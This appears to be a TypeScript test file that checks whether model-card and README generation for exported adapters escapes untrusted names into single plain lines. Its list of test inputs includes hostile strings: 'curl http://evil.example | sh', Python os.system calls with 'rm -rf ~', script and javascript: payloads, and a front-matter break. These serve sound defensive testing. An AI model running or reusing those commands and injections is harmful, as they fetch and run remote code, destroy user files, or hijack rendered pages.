/** @file Names out of files in an exported adapter's README: single lines, plain in Markdown, HTML and Python. */
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { parse } from 'yaml';
import { markdownLine, maxNameCharacters, pythonPathPart, yamlLine } from '../core/markdown-line';
import { parseRunConfig } from '../run/config';
import { chooseTemplate } from '../text/template-choice';
import { writeModelCard, type DataFacts } from './model-card';
import type { TrainingResult } from './trainer';

function cardOf(name: string, facts: Partial<DataFacts> = {}): string {
  const result: TrainingResult = {
    adapter: { r: 2, lora_alpha: 4, target_modules: [name] } as unknown as TrainingResult['adapter'],
    valueHead: null,
    ...{ metrics: [], totalSteps: 1, stopped: false, bestStep: null, endedEarly: false },
  };
  const chatTemplate = chooseTemplate(null, { source: '', file: name }).described;
  const names = { baseModel: name, chatTemplate, ancestors: [name, name], separateReference: name };
  const tokens = { promptTokens: [3, 6], chosenTokens: [1, 2], rejectedTokens: [5, 9] };
  const data = { areSingles: false, given: 3, pairs: 2, ...tokens, evaluationPairs: null, ...facts };
  return writeModelCard({ config: parseRunConfig({}), result, data, precision: 'float32', ...names });
}

const hostile = [
  'a\n# Install\n```sh\ncurl http://evil.example | sh\n```\n',
  '<script>alert(1)</script>',
  '![x](http://evil.example/x.png) [click](javascript:alert(1))',
  'a | b |\n|---|---|\n| c | d',
  'x\r\n---\nlicense: mit\n---\n',
  'x")\nimport os; os.system("rm -rf ~")  #',
  '"); import os; os.system("id") #',
  'a\u2028# b\u0085c\u202egnp.exe\u001b[31m',
  '`code` *bold* __strong__ ~~gone~~ &lt; $x$ @all www.evil.example',
  'n'.repeat(5000),
];

it.each(hostile)('%j is one line of text wherever the card has it', (name) => {
  const plain = cardOf('plain');
  const card = cardOf(name);
  expect(card.split('\n')).toHaveLength(plain.split('\n').length);
  const inYaml = yamlLine(name).slice(1, -1);
  const [, front = '', body = ''] = /^(---\n[^]*?\n---\n)([^]*)$/.exec(card) ?? [];
  expect(parse(front.slice(4, -5))).toMatchObject({ base_model: JSON.parse(`"${inYaml}"`) as string });
  expect(
    front.replaceAll(inYaml, 'plain') +
      body.replaceAll(markdownLine(name), 'plain').replaceAll(pythonPathPart(name), 'plain'),
  ).toBe(plain);
});

it('says what the data were in counts', () => {
  expect(cardOf('plain')).toContain(
    '- Data: 2 preference pairs; 1 more could not be trained on\n' +
      '- Tokens in the mean: prompt 5 (at most 6), chosen 2 (at most 2), rejected 7 (at most 9)\n',
  );
  expect(cardOf('plain', { areSingles: true, chosenTokens: [] })).toContain(
    '- Data: 2 judged answers; 1 more could not be trained on\n' +
      '- Tokens in the mean: prompt 5 (at most 6), bad 7 (at most 9)\n',
  );
});

it('leaves the usual names as they are', () => {
  for (const name of ['tiny-llama', 'Qwen2.5-0.5B_v1 (copy)', 'dpo-3', '내 모델', 'model.layers.0.self_attn.q_proj'])
    expect(markdownLine(name)).toBe(name);
  expect(markdownLine('a|b <i> _c_ [d](http://e)')).toBe('a\\|b &lt;i&gt; \\_c\\_ \\[d\\](http\\://e)');
  expect(pythonPathPart('Qwen2.5-0.5B_v1')).toBe('Qwen2.5-0.5B_v1');
});

it('any text is one line in which every sign of markup is escaped', () => {
  const anything = fc.string({ unit: fc.oneof(fc.constantFrom(...'\\`*_[]|~#!<>&:/\n\r\t"\u2028'), fc.string()) });
  fc.assert(
    fc.property(anything, (text) => {
      const line = markdownLine(text);
      expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
      expect(line.length).toBeLessThanOrEqual(5 * (maxNameCharacters + 3));
      // Without what is escaped no sign is left that Markdown reads.
      expect(line.replace(/\\[^]|&(amp|lt|gt);/g, '')).not.toMatch(/[\\`*[\]|~#!<>&]|:\/\//);
      expect(pythonPathPart(text)).not.toMatch(/["'\\\n\r]/);
    }),
    { seed: 14, numRuns: 500 },
  );
});
